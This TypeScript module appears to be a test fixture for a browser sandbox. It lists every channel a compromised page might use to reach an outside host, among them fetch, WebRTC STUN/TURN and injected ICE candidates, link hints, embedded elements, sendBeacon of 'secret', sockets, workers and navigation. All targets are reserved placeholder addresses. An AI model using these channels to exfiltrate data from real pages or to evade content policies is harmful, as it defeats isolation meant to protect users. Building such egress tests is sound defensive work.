/**
 * What a page that has gone bad would try to reach somebody outside. Each runs by itself inside a
 * page (it may use nothing from around it) and ends within seconds, whether it got out or not.
 * The addresses are of TEST-NET-1 and `.example` (RFC 5737, RFC 2606): nobody's.
 */

const fetchAddress = async () => {
  const signal = AbortSignal.timeout(2_000);
  const answer = fetch('http://192.0.2.1/', { method: 'POST', mode: 'no-cors', signal });
  return answer.then(
    () => 'sent',
    ({ name }: Error) => name,
  );
};

const fetchName = async () => {
  const signal = AbortSignal.timeout(2_000);
  return fetch('https://collector.example/', { mode: 'no-cors', signal }).then(
    () => 'sent',
    ({ name }: Error) => name,
  );
};

const image = () =>
  new Promise<string>((resolve) => {
    const img = new Image();
    img.onload = () => resolve('loaded');
    img.onerror = () => resolve('refused');
    img.src = 'http://192.0.2.1/pixel.png';
    setTimeout(() => resolve('nothing heard'), 2_000);
  });

/** STUN over UDP, by the browser's own real-time stack, which no content policy covers. */
const stun = async () => {
  const iceServers = [{ urls: 'stun:192.0.2.1:3478' }, { urls: 'stun:stun.collector.example' }];
  const peer = new RTCPeerConnection({ iceServers, iceCandidatePoolSize: 2 });
  peer.createDataChannel('out');
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((resolve) => setTimeout(resolve, 2_500));
  const state = peer.iceGatheringState;
  peer.close();
  return state;
};

/** TURN over UDP, TCP and TLS. */
const turn = async () => {
  const login = { username: 'u', credential: 'c' };
  const urls = ['turn:192.0.2.1', 'turn:192.0.2.1?transport=tcp', 'turns:192.0.2.1:443'];
  const peer = new RTCPeerConnection({ iceServers: [{ urls, ...login }] });
  peer.createDataChannel('out');
  await peer.setLocalDescription(await peer.createOffer());
  await new Promise((resolve) => setTimeout(resolve, 2_500));
  const state = peer.iceGatheringState;
  peer.close();
  return state;
};

/** A peer that is said to live outside: checks go to its address without any server. */
const peerOutside = async () => {
  const [here, there] = [new RTCPeerConnection(), new RTCPeerConnection()];
  here.createDataChannel('out');
  await here.setLocalDescription(await here.createOffer());
  if (here.localDescription) await there.setRemoteDescription(here.localDescription);
  await there.setLocalDescription(await there.createAnswer());
  if (there.localDescription) await here.setRemoteDescription(there.localDescription);
  for (const address of ['192.0.2.1', 'peer.collector.example', 'told-to-all.local']) {
    for (const transport of ['udp', 'tcp']) {
      const end = transport === 'tcp' ? ' tcptype passive' : '';
      const candidate = `candidate:1 1 ${transport} 2130706431 ${address} 9000 typ host${end}`;
      await here.addIceCandidate({ candidate, sdpMLineIndex: 0 });
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 2_500));
  const state = here.iceConnectionState;
  here.close();
  there.close();
  return state;
};

/** Everything that loads or hints by being in the document. */
const elements = async () => {
  const out = 'http://192.0.2.1';
  const box = document.createElement('div');
  const links = ['stylesheet', 'preload', 'prefetch', 'preconnect', 'dns-prefetch', 'icon'];
  for (const rel of [...links, 'manifest', 'modulepreload']) {
    for (const href of [`${out}/link`, 'http://hint.collector.example/']) {
      const link = document.createElement('link');
      Object.assign(link, { rel, href, as: 'image' });
      document.head.append(link);
      setTimeout(() => link.remove(), 2_000);
    }
  }
  for (const [name, attribute] of Object.entries({
    ...{ script: 'src', iframe: 'src', video: 'src', audio: 'src', embed: 'src', object: 'data' },
    ...{ input: 'src', img: 'srcset', track: 'src' },
  })) {
    const element = document.createElement(name);
    if (name === 'input') element.setAttribute('type', 'image');
    element.setAttribute(attribute, `${out}/${name}`);
    box.append(element);
  }
  const styled = document.createElement('p');
  styled.setAttribute('style', `background: url(${out}/css)`);
  const anchor = document.createElement('a');
  Object.assign(anchor, { href: '#stay', ping: `${out}/ping` });
  const form = document.createElement('form');
  Object.assign(form, { action: `${out}/form`, method: 'post' });
  box.append(styled, anchor, form);
  document.body.append(box);
  document.fonts.add(new FontFace('out', `url(${out}/font)`));
  void document.fonts.load('12px out').catch(() => undefined);
  anchor.click();
  form.submit();
  await new Promise((resolve) => setTimeout(resolve, 2_000));
  box.remove();
  return 'tried';
};

/** Everything that a script can open. */
const scripts = async () => {
  const out = '192.0.2.1';
  const attempts: (() => unknown)[] = [
    () => navigator.sendBeacon(`http://${out}/beacon`, 'secret'),
    () => new WebSocket(`ws://${out}/socket`),
    () => new EventSource(`http://${out}/events`),
    () => new Worker(`http://${out}/worker.js`),
    () => new SharedWorker(`http://${out}/shared.js`),
    () => navigator.serviceWorker.register(`http://${out}/service.js`),
    () => import(/* @vite-ignore */ `http://${out}/module.js`),
    () => Reflect.construct(Reflect.get(globalThis, 'WebTransport'), [`https://${out}:443/`]),
    () => window.open(`http://${out}/window`),
    () => location.assign(`http://${out}/navigated`),
  ];
  let refused = 0;
  for (const attempt of attempts) {
    try {
      await Promise.race([attempt(), new Promise((resolve) => setTimeout(resolve, 300))]);
    } catch (error) {
      if (error instanceof Error) refused += 1;
    }
  }
  await new Promise((resolve) => setTimeout(resolve, 1_500));
  return `${refused} refused at once`;
};

/** Those over UDP first: what TCP sends again later would count for the ones after it. */
export const waysOut: Readonly<Record<string, () => Promise<string>>> = {
  ...{ stun, peerOutside, fetchName, turn, fetchAddress, image, elements, scripts },
};
